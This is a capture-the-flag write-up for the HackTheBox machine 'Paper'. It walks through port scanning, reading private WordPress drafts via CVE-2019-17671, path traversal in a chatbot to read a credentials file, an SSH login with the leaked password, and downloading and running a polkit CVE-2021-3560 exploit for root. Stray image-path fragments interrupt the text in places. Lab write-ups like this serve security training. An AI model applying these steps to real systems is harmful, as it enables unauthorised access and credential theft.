Paper - [HTB]

Cover Image for Paper - [HTB]

Table of Contents


    Paper is a pretty easy Linux machine from HackTheBox where the attacker will have to exploit a WordPress vulnerability (CVE-2019-17671), so we can get access to a chat web application, exploiting the services of a chatbot and becoming user. Finally, we will have to exploit the famous polkitvulnerability (CVE-2021-3560) in order to become root.


    As always, let's start finding all opened ports in the machine with Nmap.

    kali@kali:~/Documents/HTB/Paper$ sudo nmap -sS -p- -n -T5 -oN AllPorts.txt
    Warning: giving up on port because retransmission cap hit (2).
    Nmap scan report for
    Host is up (0.043s latency).
    Not shown: 61511 closed ports, 4021 filtered ports
    22/tcp  open  ssh
    80/tcp  open  http
    443/tcp open  https

    Then, we continue with a deeper scan of each opened port, getting more information about each service.

    kali@kali:~/Documents/HTB/Paper$ sudo nmap -sC -sV -n -T5 -oN PortsDepth.txt -p 22,80,443
    Nmap scan report for
    Host is up (0.042slatency).
    22/tcp  open  ssh      OpenSSH 8.0 (protocol 2.0)
    | ssh-hostkey:
    |   2048 10:05:ea:50:56:a6:00:cb:1c:9c:93:df:5f:83:e0:64 (RSA)
    |   256 58:8c:82:1c:c6:63:2a:83:87:5c:2f:2b:4f:4d:c3:79 (ECDSA)
    |_  256 31:78:af:d1:3b:c4:2e:9d:60:4e:eb:5d:03:ec:a0:22 (ED25519)
    80/tcp  open  http     Apache httpd 2.4.37 ((centos) OpenSSL/1.1.1k mod_fcgid/2.3.9)
    |_http-generator: HTML Tidy for HTML5 for Linux version 5.7.28
    | http-methods:
    |_  Potentially risky methods: TRACE
    |_http-server-header: Apache/2.4.37 (centos) OpenSSL/1.1.1k mod_fcgid/2.3.9
    |_http-title: HTTP Server Test Page powered by CentOS
    443/tcp open  ssl/http Apache httpd 2.4.37 ((centos) OpenSSL/1.1.1k mod_fcgid/2.3.9)|_http-generator: HTML Tidy for HTML5 for Linux version 5.7.28
    | http-methods:
    |_  Potentially risky methods: TRACE
    |_http-server-header: Apache/2.4.37 (centos) OpenSSL/1.1.1k mod_fcgid/2.3.9
    |_http-title: HTTP Server Test Page powered by CentOS
    | ssl-cert: Subject: commonName=localhost.localdomain/organizationName=Unspecified/countryName=US
    | Subject Alternative Name: DNS:localhost.localdomain
    | Not valid before: 2021-07-03T08:52:34
    |_Not valid after:  2022-07-08T10:32:34
    |_ssl-date: TLS randomness does not represent time
    | tls-alpn:
    |_  http/1.1
    Service detection performed. Please report any incorrect results at .
    # Nmap done at Mon Feb 14 15:19:20 2022 -- 1 IP address (1 host up) scanned in 16.38 seconds

    Looking at the HTTP headers, we can find the domain office.paper.

    kali@kali:~/Documents/HTB/Paper$ curl -i
    HTTP/1.1 404 Not Found
    Date: Mon, 14 Feb 2022 21:09:28 GMT
    Server: Apache/2.4.37 (centos) OpenSSL/1.1.1k mod_fcgid/2.3.9
    X-Backend-Server: office.paper
    Content-Length: 196
    Content-Type: text/html; charset=iso-8859-1
    <title>404 Not Found</title>
    <h1>Not Found</h1>
    <p>The requested URL was not found on this server.</p>

    Onceadded to /etc/hosts, we can access 's WordPress page.

    Blunder Tiffin

    Thanks to wpscan, we can know that this WordPress version has an associated vulnerability.

    kali@kali:~/Documents/HTB/Paper$ wpscan --url http://office.paper/ -e ap,at,dbe,u --random-user-agent --detection-mode aggressive --plugins-detection aggressive --disable-tls-checks
    | [!] Title: WordPress <= 5.2.3 - Unauthenticated View Private/Draft Posts
     |     Fixed in: 5.2.4
     |     References:
     |      -
     |      -
     |      -
     |      -
     |      -
     |      -

    Exploitation 1

    We can exploit it, accessing the URL http://office.paper/?static=1, obtaining a bunch of drafts. Between the drafts, we can see a register link.

    Micheal please remove the secret from drafts for gods sake!
    Hello employees of Blunder Tiffin,
    Due to the orders from higher officials, every employee who were added to this blog is removed and they are migrated to our new chat system.So, I kindly request you all to take your discussions from the public blog to a more private chat system.
    # Warning for Michael
    Michael, you have to stop putting secrets in the drafts. It is a hugesecurity issue and you have to stop doing it. -Nick
    Threat Level Midnight
    Inside the FBI, Agent MichaelScarn sits with his feet up on his desk. His robotic butler Dwigt….
    # Secret Registration URL of new Employee chat system
    # I am keeping this draft unpublished, as unpublished drafts cannot be accessed by outsiders. I am not that ignorant, Nick.
    # Also, stop looking at my drafts. Jeez!

    This link leads us to a web application.

    Once registered and logged in, we can find a bot on the general with instructions about how to use it.

    Bot chat

    To interact with recyclops, we need to create a private chat.Recyclops private chat

    As we can see, recyclops can list files under the /sales/ folder.


    Exploitation 2

    Moreover, it is vulnerable to Path Traversal, so we can list files from upper directories.

    dwight's home directory

    Under the ../hubot/ directory there is a .env file .

    hubot files

    The .env contains recyclop's credentials.Configuration file

    These credentials can be used to get the machine as Dwight through SSH.

    kali@kali:~/Documents/HTB/Paper$ ssh dwight@office.paper
    dwight@office.paper's password: Queenofblad3s!23
    [dwight@paper ~]$ cat user.txt

    Privilege EscalationUsing Linpeash, we find that the polkit binary is a SUID binary.

    SUID - Check easy privesc, exploits and write perms
    -rwsr-xr-x. 1 root root  61K May 11  2019 /usr/bin/at  --->  RTru64_UNIX_4.0g(CVE-2002-1614)
    -rwsr-xr-x  1 root root  34K May 11  2019 /usr/bin/fusermount3
    -rwsr-xr-x. 1 root root  38K May 11  2019 /usr/bin/fusermount
    -rwsr-xr-x. 1 root root  18K May11  2019 /usr/lib/polkit-1/polkit-agent-helper-1
    -rwsr-xr-x  1 root root  65K Nov  8  2019 /usr/bin/crontab
    -rwsr-xr-x  1 root root  33K Apr  6  2020 /usr/bin/passwd  --->  Apple_Mac_OSX(03-2006)/Solaris_8/9(12-2004)/SPARC_8/9/Sun_Solaris_2.3_to_2.5.1(02-1997)
    -rwsr-xr-x  1 root root  21K Feb  2  2021 /usr/libexec/spice-gtk-x86_64/spice-client-glib-usb-acl-helper (Unknown SUID binary)

    So, we can exploit it becoming root with the following exploit.

    [dwight@paper tmp]$ wget
    --2022-02-14 17:06:44--
    Connecting to connected.
    HTTP request sent, awaiting response... 200 OK
    Length: 2434 (2.4K) [text/plain]
    Saving to: ‘’                                                           100%[===>]   2.38K  --.-KB/s    in 0s
    2022-02-14 17:06:44 (295 MB/s) - ‘’ saved [2434/2434]
    [dwight@paper tmp]$ python3
    [+] Timedout at: 0.00890119250816805[+] Exploit Completed, Your new user is 'Ahmed' just log into it like, 'su ahmed', and then 'sudo su' to root
    bash: cannot set terminal process group (79814): Inappropriate ioctl fordevice
    bash: no job control in this shell
    [root@paper tmp]#  cat /root/root.txt